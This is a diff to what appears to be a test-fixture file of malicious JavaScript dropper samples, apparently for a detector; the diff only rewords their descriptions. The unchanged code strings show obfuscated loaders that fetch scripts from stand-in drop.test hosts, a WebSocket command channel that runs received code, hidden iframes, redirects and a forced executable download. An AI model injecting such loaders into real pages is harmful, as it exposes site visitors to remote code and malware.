@@ -24,35 +24,35 @@ export const droppers: readonly MaliciousSample[] = [
   ),
   dropper(
     'xor-loop',
-    'Code as numbers that are decoded with XOR',
+    'Code as numbers with an exclusive or',
     `var d=[${exclusiveOr(loader, 23)}],o='';for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^23);}(new Function(o))();`,
   ),
   dropper(
     'decoder-function',
-    'A decoder whose result is passed to the Function constructor',
+    'A decoder function, its result goes to the constructor of functions',
     `function dec(a, k) { var r = ''; for (var i = 0; i < a.length; i++) { r += String.fromCharCode(a.charCodeAt(i) - k); } return r; }
     var q = 'wbs!t>epdvnfou/dsfbufFmfnfou)(tdsjqu(*'; [].constructor.constructor(dec(q, 1))();
     window['ev' + 'al'](dec(q, 1));`,
   ),
   dropper(
     'unescape-write',
-    'Writes a percent-encoded script element',
+    'Writes a script element that was percent-encoded',
     `document.write(unescape('${percentEscapes('<script src="https://write.drop.test/a.js"></script>')}'));`,
   ),
   dropper(
     'decoded-source',
-    'Loads a script from a URL in base64',
+    'Loads a script from an address in base64',
     `(function (d, t, u) { var s = d.createElement(t); s.async = 1; s.src = atob(u); d.getElementsByTagName('head')[0].appendChild(s); })(document, 'script', '${base64('https://src.drop.test/l.js')}');`,
   ),
   dropper(
     'reversed-source',
-    'Loads a script from a reversed URL',
+    'Loads a script from an address that is written backwards',
     `var a = document.createElement('script'); a.src = '${backwards('https://rev.drop.test/l.js')}'.split('').reverse().join('');
     var c = String.fromCharCode(104, 101, 97, 100); document[c].appendChild(a); if (/google|bing|yahoo/.test(document.referrer)) location.replace('https://rev.drop.test/go');`,
   ),
   dropper(
     'socket-commands',
-    'Runs code that it receives over a socket',
+    'Runs what comes over a socket',
     `var host = 'wss://c2.drop.test/s'; var w = new WebSocket(host + '?h=' + location.host);
     w.onmessage = function (m) { new Function(m.data)(); }; w.onclose = function () { setTimeout(function () { location.reload(); }, 6e4); };`,
   ),
@@ -75,7 +75,7 @@ export const droppers: readonly MaliciousSample[] = [
   ),
   dropper(
     'mobile-redirect',
-    'Redirects phones to a URL built from character codes',
+    'Redirects phones to an address put together from codes',
     `if (/android|iphone/i.test(navigator.userAgent)) { var u = [${characterCodes('https://app.drop.test/m')}].map(function (c) { return String.fromCharCode(c); }).join(''); top.location = u; }`,
   ),
   dropper(
@@ -86,7 +86,7 @@ export const droppers: readonly MaliciousSample[] = [
   ),
   dropper(
     'embedded-program',
-    'Builds a program from a string and offers it',
+    'Builds a program from text and offers it',
     `var b = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'; var u = Uint8Array.from(atob(b), function (c) { return c.charCodeAt(0); });
     var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u])); a.download = 'setup.exe'; a.click();`,
   ),
@@ -98,12 +98,12 @@ export const droppers: readonly MaliciousSample[] = [
   ),
   dropper(
     'hidden-frame-decoded',
-    'Writes an encoded hidden frame',
+    'Writes a hidden frame that was encoded',
     `document.write(atob('${base64('<iframe src="https://frame.drop.test/kit" width="1" height="1" style="display:none"></iframe>')}')); document.write('<iframe width=0 height=0 src="//frame.drop.test/2"></iframe>');`,
   ),
   dropper(
     'script-text',
-    'Creates a script element with decoded code',
+    'Makes a script element with decoded text',
     `var e = document.createElement('script'); e.text = decodeURIComponent(escape(atob('${base64(loader)}'))); document.documentElement.appendChild(e);`,
   ),
   dropper(
@@ -113,7 +113,7 @@ export const droppers: readonly MaliciousSample[] = [
   ),
   dropper(
     'string-array-loader',
-    'A loader with a rotated string array',
+    'A loader behind an array of texts that is turned and looked up by number',
     `var _0x4a1c=['${base64('script')}','${base64('createElement')}','${base64('https://arr.drop.test/s.js')}','${base64('appendChild')}','${base64('head')}','${base64('src')}'];
     (function(_0x2b,_0x3c){while(--_0x3c){_0x2b['push'](_0x2b['shift']());}}(_0x4a1c,0x1));
     function _0x5d(_0x6e){_0x6e=_0x6e-0x10;return atob(_0x4a1c[_0x6e]);}
